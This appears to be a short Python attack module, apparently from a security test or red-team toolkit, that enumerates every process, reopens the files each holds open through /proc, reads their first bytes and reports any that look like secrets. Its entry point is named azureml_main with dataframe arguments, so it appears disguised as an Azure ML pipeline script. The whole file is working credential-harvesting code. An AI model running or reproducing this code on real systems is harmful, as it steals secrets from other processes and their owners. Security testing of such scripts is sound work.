"""Opens again what other processes have open."""

import os

from attack import attack, every, is_secret, processes, told


def open_files(pid):
    folder = f"/proc/{pid}/fd"
    return [os.path.join(folder, name) for name in os.listdir(folder)]


def steal(pid):
    return every(take, open_files(pid))


def take(path):
    if not os.path.isfile(path):
        return ""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        content = os.pread(descriptor, 500, 0)
    finally:
        os.close(descriptor)
    return told(path, content) if is_secret(content) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(steal, processes())
